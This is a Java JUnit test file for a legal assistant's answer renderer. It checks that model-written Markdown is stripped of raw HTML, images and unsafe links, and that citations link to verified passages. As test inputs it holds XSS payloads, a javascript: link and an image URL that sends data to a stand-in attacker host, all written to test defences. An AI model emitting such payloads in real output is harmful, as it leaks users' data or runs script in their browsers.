package io.lexvault.assistant.answers;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;

/** A model's Markdown reaches the browser without HTML, images or hidden link targets, citations linked. */
class AnswerRenderingTests {

    static final Map<Integer, String> PASSAGES = Map.of(1, "The purchaser pays the price on completion.");
    static final String LINK =
            "/matters/11111111-1111-1111-1111-111111111111/assistant/passages/22222222-2222-2222-2222-222222222222";

    static AnswerRendering.Rendered render(String markdown) {
        return AnswerRendering.render(markdown, PASSAGES, n -> n == 1 ? LINK : null);
    }

    @Test
    void rawHtmlIsShownAsTextNeverAsMarkup() {
        String html = render("Hello <script>alert(1)</script> <b onclick=x>bold</b>\n\n<div>block</div>")
                .html();
        assertThat(html).doesNotContain("<script").doesNotContain("<b ").doesNotContain("<div");
        assertThat(html).contains("&lt;script&gt;");
    }

    @Test
    void imagesAreNeverShown() {
        String html = render("See ![secret](https://evil.example/x.png?data=abc) here")
                .html();
        assertThat(html).doesNotContain("<img").doesNotContain("evil.example").contains("[image not shown]");
    }

    @Test
    void httpsLinksAreKeptAndShowTheirTarget() {
        String html = render("Read [the statute](https://www.gesetze-im-internet.de/bgb/) now")
                .html();
        assertThat(html).contains("href=\"https://www.gesetze-im-internet.de/bgb/\"");
        assertThat(html).contains("(https://www.gesetze-im-internet.de/bgb/)");
        assertThat(html).contains("noopener").contains("noreferrer");
    }

    @Test
    void otherLinksLoseTheirTarget() {
        String html = render(
                        "[click](javascript:alert(1)) [plain](http://example.com/) [mail](mailto:a@b.c) [rel](/admin)")
                .html();
        assertThat(html).doesNotContain("href").doesNotContain("javascript").doesNotContain("example.com");
        assertThat(html).contains("click").contains("(link removed)");
    }

    @Test
    void citationsLinkToTheirPassageAndUnknownOnesAreMarked() {
        var rendered = render("The price is due \"on completion\" [1]. Delivery is in Oslo [7].");
        // The quoted words become a text fragment: the browser highlights them, the server never sees them.
        assertThat(rendered.html())
                .contains("href=\"" + LINK + "#:~:text&#61;on%20completion\"")
                .contains("class=\"citation-link\"");
        assertThat(rendered.html()).contains("<span class=\"citation-unknown\">7</span>");
        assertThat(rendered.html()).contains("class=\"unverified\"").contains("(unverified: cites [7]");
        assertThat(rendered.verification().unverified()).isEqualTo(1);
    }

    @Test
    void aWrongQuotationIsMarkedUnverifiedAcrossEmphasis() {
        var rendered = render("It says *\"the seller pays\"* [1].");
        assertThat(rendered.verification().allVerified()).isFalse();
        assertThat(rendered.html()).contains("unverified: the quotation is not in the cited passage");
        assertThat(render("It says *\"purchaser pays the price\"* [1].")
                        .verification()
                        .allVerified())
                .isTrue();
    }

    @Test
    void theSanitiserDropsWhatTheRendererShouldNeverProduce() {
        assertThat(AnswerRendering.sanitise("<a href=\"/admin\">x</a><img src=x><a href=\"javascript:1\">y</a>"))
                .doesNotContain("href")
                .doesNotContain("<img");
        assertThat(AnswerRendering.sanitise("<span class=\"evil\" style=\"color:red\">z</span>"))
                .doesNotContain("class")
                .doesNotContain("style");
    }
}
